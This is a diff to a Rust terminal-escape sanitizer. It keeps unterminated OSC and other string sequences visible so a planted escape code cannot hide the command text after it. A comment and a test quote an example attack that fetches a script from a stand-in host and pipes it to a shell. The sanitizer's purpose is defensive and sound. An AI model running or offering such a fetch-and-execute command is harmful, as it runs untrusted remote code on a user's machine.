@@ -45,12 +45,8 @@ pub fn ansi_segments(s: &str) -> Vec<AnsiSegment<'_>> {
                 continue;
             }
         };
-        if start < i {
-            out.push(AnsiSegment::Text(&s[start..i]));
-        }
         let body = i + intro_len;
         let end = match kind {
-            Intro::Two => body,
             Intro::Csi => {
                 // parameters and intermediates, then one final byte 0x40..=0x7e
                 let mut j = body;
@@ -64,28 +60,48 @@ pub fn ansi_segments(s: &str) -> Vec<AnsiSegment<'_>> {
                 } else {
                     j
                 };
+                if start < i {
+                    out.push(AnsiSegment::Text(&s[start..i]));
+                }
                 if fin < b.len() && b[fin] == b'm' {
                     out.push(AnsiSegment::Sgr(&s[body..fin]));
                 }
                 end
             }
             Intro::Osc | Intro::Str => {
-                // terminated by BEL, ESC \ or the C1 ST (C2 9C); one left
-                // open ends at its line's end or after `SEQ_MAX` bytes, so
-                // a stray introducer cannot swallow the rest of the text
+                // terminated by BEL, ESC \ or the C1 ST (C2 9C) within its
+                // line and `SEQ_MAX` bytes; one left open is no sequence:
+                // its introducer stays in the text (shown as `^[]`) and so
+                // does everything after it, which a stray or planted
+                // introducer could otherwise hide (`echo safe ESC]0; && curl
+                // evil.sh | sh` must not show as `echo safe`)
                 let mut j = body;
                 let limit = b.len().min(body + SEQ_MAX);
-                loop {
+                let end = loop {
                     if j >= limit || b[j] == b'\n' {
-                        break j;
+                        break None;
                     }
                     match b[j] {
-                        0x07 => break j + 1,
-                        0x1b if b.get(j + 1) == Some(&b'\\') => break j + 2,
-                        0xc2 if b.get(j + 1) == Some(&0x9c) => break j + 2,
+                        0x07 => break Some(j + 1),
+                        0x1b if b.get(j + 1) == Some(&b'\\') => break Some(j + 2),
+                        0xc2 if b.get(j + 1) == Some(&0x9c) => break Some(j + 2),
                         _ => j += 1,
                     }
+                };
+                let Some(end) = end else {
+                    i = body;
+                    continue;
+                };
+                if start < i {
+                    out.push(AnsiSegment::Text(&s[start..i]));
                 }
+                end
+            }
+            Intro::Two => {
+                if start < i {
+                    out.push(AnsiSegment::Text(&s[start..i]));
+                }
+                body
             }
         };
         // Never split a UTF-8 sequence: the introducer and terminators are
@@ -454,12 +470,25 @@ mod tests {
     }
 
     #[test]
-    fn an_unterminated_string_sequence_ends_at_its_line() {
-        for intro in ["\x1b]", "\x1bP", "\x1b_", "\u{9d}"] {
+    fn an_unterminated_string_sequence_hides_nothing() {
+        for (intro, shown) in [
+            ("\x1b]", "^[]"),
+            ("\x1bP", "^[P"),
+            ("\x1b_", "^[_"),
+            ("\u{9d}", "<U+009D>"),
+        ] {
             let s = format!("before{intro}0;junk\nafter\n\nmore");
             let out = sanitize(&s);
-            assert_eq!(out, "before\nafter\n\nmore", "{intro:?}");
+            assert_eq!(
+                out,
+                format!("before{shown}0;junk\nafter\n\nmore"),
+                "{intro:?}"
+            );
         }
+        let attack = "echo safe \x1b]0; && curl evil.sh | sh";
+        assert_eq!(sanitize(attack), "echo safe ^[]0; && curl evil.sh | sh");
+        // a terminated one is still dropped whole
+        assert_eq!(sanitize("a\x1b]0;title\x07b"), "ab");
         let long = format!("a\x1b]{}tail", "x".repeat(SEQ_MAX + 10));
         assert!(strip_ansi(&long).ends_with("xxxxxxxxxxtail"));
         let csi = format!("a\x1b[{}m", "1;".repeat(SEQ_MAX));
